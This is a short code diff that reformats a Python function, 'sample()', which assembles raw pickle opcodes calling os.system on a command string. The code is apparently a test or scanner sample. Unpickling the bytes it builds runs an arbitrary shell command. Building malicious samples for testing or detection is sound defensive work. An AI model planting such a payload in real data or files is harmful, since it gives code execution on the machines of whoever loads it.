@@ -13,7 +13,9 @@ def sample() -> bytes:
     return (
         b"\x80\x02"  # PROTO 2
         + b"cos\nsystem\n"  # GLOBAL os.system
-        + b"X" + len(command).to_bytes(4, "little") + command  # BINUNICODE
+        + b"X"
+        + len(command).to_bytes(4, "little")
+        + command  # BINUNICODE
         + b"\x85"  # TUPLE1
         + b"R"  # REDUCE: os.system(command)
         + b"."  # STOP
